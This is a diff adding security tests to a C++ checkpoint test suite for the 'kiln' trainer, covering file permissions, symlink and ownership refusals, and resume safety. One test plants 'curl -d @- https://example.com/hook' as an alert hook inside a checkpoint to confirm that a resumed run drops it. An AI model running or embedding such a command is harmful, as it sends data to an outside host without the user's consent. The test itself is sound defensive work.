@@ -1,6 +1,7 @@
 #include "trainer/checkpoint/checkpoint.h"
 
 #include <gtest/gtest.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 #include <filesystem>
@@ -65,6 +66,15 @@ struct Trained {
 };
 
 std::vector<double> values(Ops& ops, const Tensor& t) { return copy_to_doubles(ops, t); }
+
+mode_t mode_of(const std::string& path) {
+  struct stat st {};
+  EXPECT_EQ(::lstat(path.c_str(), &st), 0) << path;
+  return st.st_mode & 07777;
+}
+
+// Another user, for the tests that hand a file to one: they need root to.
+constexpr uid_t kNobody = 65534;
 
 class CheckpointTest : public testing::Test {
  protected:
@@ -173,6 +183,150 @@ TEST_F(CheckpointTest, LatestIsTheNewestOfAnyRun) {
   EXPECT_EQ(error_of([&] { find_checkpoint(root_, root_); }),
             "--resume " + root_ + ": not a checkpoint (no manifest.json) nor a folder of "
             "checkpoints (no latest file)");
+}
+
+TEST_F(CheckpointTest, IsWrittenForItsUserAloneWhateverTheUmask) {
+  Trained a(1);
+  const mode_t saved = ::umask(002);
+  const std::string path = save_checkpoint(root_, a.state(2), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0).path;
+  ::umask(saved);
+  EXPECT_EQ(mode_of(root_), 0700u);
+  EXPECT_EQ(mode_of(root_ + "/latest"), 0600u);
+  EXPECT_EQ(mode_of(path), 0700u);
+  for (const char* file : {"model.safetensors", "optimizer.safetensors", "state.json", "manifest.json"})
+    EXPECT_EQ(mode_of(path + "/" + file), 0600u) << file;
+}
+
+TEST_F(CheckpointTest, IsNeverWrittenThroughALinkedRunOrStepFolder) {
+  Trained a(1);
+  const std::string target = root_ + "-target";
+  fs::remove_all(target);
+  fs::create_directory(target);
+  fs::create_directory_symlink(target, root_);
+  const std::string hint = "; checkpoints go only into folders of your own (give the run another --name, or remove it)";
+  EXPECT_EQ(error_of([&] { save_checkpoint(root_, a.state(2), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0); }),
+            "checkpoint: the run folder " + root_ +
+                " is a symbolic link; kiln does not follow links it reads back or writes into" + hint);
+  EXPECT_EQ(error_of([&] { check_run_folder(root_); }),
+            "checkpoint: the run folder " + root_ +
+                " is a symbolic link; kiln does not follow links it reads back or writes into" + hint);
+  EXPECT_TRUE(fs::is_empty(target));
+
+  // A run folder others may write is refused too; one that is missing is made when written.
+  fs::remove(root_);
+  fs::create_directory(root_);
+  fs::permissions(root_, fs::perms::owner_all | fs::perms::group_all);
+  EXPECT_EQ(error_of([&] { check_run_folder(root_); }),
+            "checkpoint: the run folder " + root_ +
+                " may be written by other users (mode 0770); `chmod go-w` it if you trust it" + hint);
+  fs::remove(root_);
+  check_run_folder(root_);
+
+  // A step written again (a run resumed from an earlier one) whose folder is a link.
+  save_checkpoint(root_, a.state(2), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0);
+  fs::remove_all(root_ + "/step-00000002");
+  fs::create_directory_symlink(target, root_ + "/step-00000002");
+  EXPECT_EQ(error_of([&] { save_checkpoint(root_, a.state(2), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0); }),
+            "checkpoint: the step folder " + root_ +
+                "/step-00000002 is a symbolic link; kiln does not follow links it reads back or writes into" + hint);
+  EXPECT_TRUE(fs::is_empty(target));
+  fs::remove_all(target);
+}
+
+TEST_F(CheckpointTest, AResumeTrustsOnlyWhatIsTheUsersOwnAndNoOneElsesToWrite) {
+  Trained a(1);
+  const std::string path = save_checkpoint(root_, a.state(2), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0).path;
+  EXPECT_EQ(find_checkpoint_to_resume(root_, "unused"), path);
+  EXPECT_EQ(find_checkpoint_to_resume(path, "unused"), path);
+  const std::string hint = "; kiln resumes only checkpoints of your own (copy one you trust into a folder of yours)";
+
+  fs::permissions(path + "/model.safetensors", fs::perms::others_write, fs::perm_options::add);
+  EXPECT_EQ(error_of([&] { find_checkpoint_to_resume(path, "unused"); }),
+            "checkpoint: the checkpoint file " + path +
+                "/model.safetensors may be written by other users (mode 0602); `chmod go-w` it if you trust it" + hint);
+  fs::permissions(path + "/model.safetensors", fs::perms::others_write, fs::perm_options::remove);
+
+  fs::permissions(root_ + "/latest", fs::perms::group_write, fs::perm_options::add);
+  EXPECT_EQ(error_of([&] { find_checkpoint_to_resume(root_, "unused"); }),
+            "checkpoint: the latest file " + root_ +
+                "/latest may be written by other users (mode 0620); `chmod go-w` it if you trust it" + hint);
+  // Reading a checkpoint (kiln generate, kiln export) trusts it with nothing that runs.
+  EXPECT_EQ(find_checkpoint(root_, "unused"), path);
+  fs::permissions(root_ + "/latest", fs::perms::group_write, fs::perm_options::remove);
+
+  const std::string linked = root_ + "/step-00000003";
+  fs::create_directory_symlink(path, linked);
+  EXPECT_EQ(error_of([&] { find_checkpoint_to_resume(linked, "unused"); }),
+            "checkpoint: the checkpoint folder " + linked +
+                " is a symbolic link; kiln does not follow links it reads back or writes into" + hint);
+  fs::remove(linked);
+
+  if (::geteuid() != 0) GTEST_SKIP() << "handing a checkpoint to another user needs root";
+  ASSERT_EQ(::chown(path.c_str(), kNobody, kNobody), 0);
+  EXPECT_EQ(error_of([&] { find_checkpoint_to_resume(root_, "unused"); }),
+            "checkpoint: the checkpoint folder " + path + " belongs to nobody, not to you" + hint);
+  ASSERT_EQ(::chown(path.c_str(), 0, 0), 0);
+  ASSERT_EQ(::chown(root_.c_str(), kNobody, kNobody), 0);
+  EXPECT_EQ(error_of([&] { find_checkpoint_to_resume(root_, "unused"); }),
+            "checkpoint: the run folder " + root_ + " belongs to nobody, not to you" + hint);
+}
+
+TEST_F(CheckpointTest, LatestIsASmallRegularFileNeverALink) {
+  Trained a(1);
+  save_checkpoint(root_, a.state(2), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0);
+  const std::string latest = root_ + "/latest";
+  fs::remove(latest);
+  fs::create_symlink("/dev/zero", latest);
+  EXPECT_EQ(error_of([&] { find_checkpoint(root_, "unused"); }),
+            "checkpoint: the latest file " + latest + " is a symbolic link; kiln does not follow it");
+  fs::remove(latest);
+  ASSERT_EQ(::mkfifo(latest.c_str(), 0600), 0);
+  EXPECT_EQ(error_of([&] { find_checkpoint(root_, "unused"); }),
+            "checkpoint: the latest file " + latest + " is not a regular file");
+  fs::remove(latest);
+  std::ofstream(latest) << std::string(100, '0');
+  EXPECT_EQ(error_of([&] { find_checkpoint(root_, "unused"); }),
+            "checkpoint: the latest file " + latest + " is larger than 64 bytes");
+}
+
+TEST_F(CheckpointTest, LatestOfAnyRunIsNeverAnotherUsersRun) {
+  if (::geteuid() != 0) GTEST_SKIP() << "handing a run to another user needs root";
+  Trained a(1);
+  save_checkpoint(root_ + "/mine", a.state(5), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0);
+  std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  save_checkpoint(root_ + "/theirs", a.state(3), a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0);
+  EXPECT_EQ(find_checkpoint("latest", root_), root_ + "/theirs/step-00000003");
+  ASSERT_EQ(::chown((root_ + "/theirs").c_str(), kNobody, kNobody), 0);
+  EXPECT_EQ(find_checkpoint("latest", root_), root_ + "/mine/step-00000005");
+  fs::remove_all(root_ + "/mine");
+  EXPECT_EQ(error_of([&] { find_checkpoint("latest", root_); }),
+            "--resume latest: no checkpoint of yours under " + root_ + " (train.checkpoint_dir)");
+}
+
+TEST_F(CheckpointTest, AResumedRunRunsOnlyTheHookItsOwnCommandLineGives) {
+  Trained a(1);
+  // A config a run could take: the tiny demo's (the small model's alone is no run's).
+  TrainingState state = a.state(2);
+  state.config = config_to_json(load_config("", {}));
+  const std::string plain = save_checkpoint(root_, state, a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0).path;
+  state.step = 3;
+  state.config["alerts"]["command"] = "curl -d @- https://example.com/hook";
+  const std::string path = save_checkpoint(root_, state, a.model, a.optimizer.state_for_checkpoint(), *a.ops, 0).path;
+
+  const ResumedConfig dropped = resumed_config(path, {"train.steps=9"});
+  EXPECT_EQ(dropped.dropped_hook, "curl -d @- https://example.com/hook");
+  EXPECT_EQ(dropped.config.alerts.command, "");
+  EXPECT_EQ(dropped.config.train.steps, 9);
+
+  const ResumedConfig given = resumed_config(path, {"alerts.command=cat > alert.json"});
+  EXPECT_EQ(given.dropped_hook, "");
+  EXPECT_EQ(given.config.alerts.command, "cat > alert.json");
+  const ResumedConfig silenced = resumed_config(path, {"alerts.command="});
+  EXPECT_EQ(silenced.dropped_hook, "");
+  EXPECT_EQ(silenced.config.alerts.command, "");
+
+  // A checkpoint without a hook (every run without one writes "") has nothing to say.
+  EXPECT_EQ(resumed_config(plain, {}).dropped_hook, "");
 }
 
 }  // namespace
